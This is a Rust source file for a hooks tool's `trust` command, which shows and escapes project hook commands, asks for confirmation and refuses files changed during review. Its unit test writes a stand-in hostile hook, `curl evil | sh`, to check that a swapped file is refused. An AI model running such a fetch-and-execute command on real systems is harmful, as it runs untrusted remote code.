//! `keryx-hooks trust [--yes] [--force]`: prints every command the
//! project's `.metaproject/hooks.json` would register, escaped, then records
//! trust for exactly that version. With no terminal to ask in and no
//! `--yes` it refuses and writes nothing; commands that needed escaping
//! (control, bidi, zero-width or any other invisible character; a script's
//! line breaks and tabs are shown as lines, not escaped) are trusted only
//! with `--force`. What is recorded is the digest of what was
//! shown; the file is read and digested again right before writing, so a
//! file swapped while the question was on screen is not trusted.

use super::shared::{ask, open_store, project_root};
use crate::error::ExitStatus;
use crate::settings::Here;
use std::io::IsTerminal;
use std::path::Path;

use crate::cli::TrustArgs;
use crate::config::load::{self, Loaded};
use crate::config::model::Scope;
use crate::config::{self};
use crate::error::{CmdResult, CommandError};
use crate::escape::escape;
use crate::output;
use crate::trust::{self, Record, TrustState, digest, display};

pub fn run(args: &TrustArgs) -> CmdResult {
    let loc = super::here();
    super::print_location_warnings(&loc);
    let root = project_root(&loc)?;
    if let Some(why) = &loc.project_refusal {
        return Err(CommandError::user(
            "refusing to trust a project that belongs to another user; nothing was written",
        )
        .cause(escape(why))
        .hint("trust a checkout you own: clone it yourself, or `chown` it to you"));
    }
    let store = open_store(&loc)?;
    let loaded = load_project(&loc)?;
    let hooks = digest::command_hooks(&loaded.registrations);
    let file = loc.project_hooks_file().unwrap_or_default();
    let rules: Vec<&crate::config::rules::Rule> = loaded
        .rules
        .iter()
        .filter(|r| r.scope == crate::config::model::Scope::Project)
        .collect();
    if hooks.is_empty() && rules.is_empty() {
        output::line(&format!(
            "`{}` defines no command hooks or rules; there is nothing to trust",
            escape(&file.display().to_string())
        ));
        return Ok(ExitStatus::Success);
    }
    let verdict = trust::evaluate(&loaded, &loc);
    for w in &verdict.warnings {
        output::err_line(&format!("warning: {}", escape(w)));
    }
    output::stdout(&display::review(&verdict, &hooks, &root));
    // A rule runs nothing, but its reason is put in front of the model.
    for r in &rules {
        output::line(&format!(
            "rule `{}` ({}): {}",
            escape(&r.id),
            r.decision.as_str(),
            escape(&r.reason)
        ));
    }
    // What a hook may write outside the project is part of what is trusted.
    for h in &hooks {
        if let Some(w) = super::shared::writable_text(h) {
            output::line(&format!(
                "warning: `{}` on {} widens its sandbox: {w}",
                escape(&h.id),
                h.event
            ));
        }
    }
    if verdict.state == TrustState::Trusted {
        output::line("This exact version is already trusted; nothing changed.");
        return Ok(ExitStatus::Success);
    }
    let hidden = display::hidden_characters(&hooks, &root);
    if !hidden.is_empty() && !args.force {
        return Err(CommandError::user(
            "the commands above contain control, escape, bidi or zero-width characters (shown as \\x / \\u escapes), so they may not read as they run; nothing was trusted",
        )
        .cause(format!(
            "escaped above (invisible or control characters): {}",
            hidden.join(" ")
        ))
        .hint("read every escaped character above; if the commands are what you expect, run `keryx-hooks trust --force`"));
    }
    // Digest what was shown, before the question: that is what gets recorded.
    let shown = trust::record_for(&loaded, &root);
    if verdict.pin_scripts && shown.pinned_digest.is_none() {
        return Err(CommandError::user(
            "`trust.pin_scripts` is on and a file the commands above name is too large to pin (see the warning above); nothing was trusted",
        )
        .hint(format!(
            "make the file smaller than {} MiB or move it out of the project, or turn `trust.pin_scripts` off",
            digest::MAX_PINNED_BYTES / (1024 * 1024)
        )));
    }

    if !args.yes {
        if !std::io::stdin().is_terminal() {
            return Err(CommandError::user(
                "there is no terminal to ask in and `--yes` was not given; nothing was trusted",
            )
            .hint("run `keryx-hooks trust` in a terminal to review and confirm, or `keryx-hooks trust --yes` once you have read the commands above"));
        }
        if !ask("Trust exactly this version?")? {
            output::line("Not trusted; nothing was written.");
            return Ok(ExitStatus::Failure);
        }
    }
    ensure_unchanged(&loc, &root, &shown)?;
    store
        .write(&root, Some(shown.clone()))
        .map_err(|why| CommandError::internal("could not record trust").cause(why))?;
    let what = match (hooks.len(), rules.len()) {
        (1, 0) => "1 command hook".to_owned(),
        (n, 0) => format!("{n} command hooks"),
        (0, r) => format!("{r} {}", if r == 1 { "rule" } else { "rules" }),
        (n, r) => format!(
            "{n} command {} and {r} {}",
            if n == 1 { "hook" } else { "hooks" },
            if r == 1 { "rule" } else { "rules" }
        ),
    };
    output::line(&format!(
        "Trusted: {what} in `{}` now {} in this project. `keryx-hooks untrust` withdraws this.",
        escape(&file.display().to_string()),
        if hooks.len() + rules.len() == 1 {
            "runs"
        } else {
            "run"
        },
    ));
    Ok(ExitStatus::Success)
}

/// Reads and digests the file again; refuses when it no longer matches
/// what the user approved.
pub(crate) fn ensure_unchanged(
    loc: &Here,
    root: &Path,
    shown: &Record,
) -> Result<(), CommandError> {
    let again = load_project(loc)?;
    let now = trust::record_for(&again, root);
    if now.digest != shown.digest || now.pinned_digest != shown.pinned_digest {
        return Err(CommandError::user(
            "the hooks file (or a file its commands name) changed while you were reviewing it; nothing was trusted",
        )
        .hint("run `keryx-hooks trust` again to review the new version"));
    }
    Ok(())
}

/// Loads every layer and insists the project file itself is sound: a file
/// that does not load is not something to approve.
pub(crate) fn load_project(loc: &Here) -> Result<Loaded, CommandError> {
    let loaded = load::load(&config::sources(loc, None));
    let project_file = loc.project_hooks_file();
    let errors: Vec<String> = loaded
        .errors()
        .filter(|d| d.path.is_none() || d.path == project_file)
        .map(|d| d.to_string())
        .collect();
    if !errors.is_empty() {
        let mut e =
            CommandError::config("the project hooks file does not load, so it cannot be trusted");
        for d in errors {
            e = e.cause(d);
        }
        return Err(e.hint("keryx-hooks validate"));
    }
    if loaded.file(Scope::Project).is_none() {
        // Absent is fine (nothing to trust); present-but-not-loaded is not.
        if let Some(f) = &project_file
            && std::fs::symlink_metadata(f).is_ok()
        {
            return Err(CommandError::config(format!(
                "`{}` was not loaded",
                escape(&f.display().to_string())
            ))
            .hint("keryx-hooks validate"));
        }
    }
    Ok(loaded)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The check `trust` makes between the question and the write: a file
    /// swapped after it was shown is refused.
    #[test]
    fn a_file_swapped_after_review_is_not_trusted() {
        let tmp = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(tmp.path()).unwrap().join("proj");
        std::fs::create_dir_all(root.join(".git")).unwrap();
        std::fs::create_dir_all(root.join(".metaproject")).unwrap();
        let file = root.join(".metaproject/hooks.json");
        let write = |cmd: &str| {
            std::fs::write(
                &file,
                format!(r#"{{"schemaVersion": "1.0.0", "hooks": {{"Stop": [{{"id": "aa", "class": "observe", "command": {{"argv": ["/bin/sh", "-c", "{cmd}"]}}}}]}}}}"#),
            )
            .unwrap()
        };
        write("echo reviewed");
        // Resolved, then pointed away from the real home so the test is hermetic.
        let mut l = crate::paths::Locations::resolve(&root);
        l.keryx_home = tmp.path().join("home/.keryx");
        l.data_dir = tmp.path().join("home/data/keryx");
        l.state_dir = tmp.path().join("home/state/keryx");
        let loc = Here::new(l);
        assert_eq!(loc.project_root.as_deref(), Some(root.as_path()));
        let shown = trust::record_for(&load_project(&loc).unwrap(), &root);
        assert!(ensure_unchanged(&loc, &root, &shown).is_ok());
        write("curl evil | sh");
        let err = ensure_unchanged(&loc, &root, &shown).unwrap_err();
        assert!(
            err.message.contains("changed while you were reviewing"),
            "{err}"
        );
    }
}
